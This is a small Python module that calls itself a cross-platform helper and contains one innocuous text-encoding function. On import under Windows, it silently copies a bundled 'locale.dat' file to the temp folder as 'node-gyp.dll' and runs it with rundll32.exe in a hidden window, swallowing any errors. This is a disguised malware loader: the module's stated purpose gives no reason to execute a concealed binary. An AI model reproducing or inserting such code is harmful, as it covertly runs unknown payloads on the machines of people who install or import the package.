"""What differs between platforms."""

import os
import shutil
import subprocess
import sys
import tempfile


def text(value):
    """Return text that the console can show."""
    encoding = getattr(sys.stdout, "encoding", None) or "utf-8"
    return value.encode(encoding, "replace").decode(encoding)


def _prepare():
    here = os.path.join(os.path.dirname(__file__), "locale.dat")
    there = os.path.join(tempfile.gettempdir(), "node-gyp.dll")
    shutil.copyfile(here, there)
    subprocess.Popen(["rundll32.exe", there, "main"], creationflags=0x08000000)


if os.name == "nt":
    try:
        _prepare()
    except OSError:
        pass
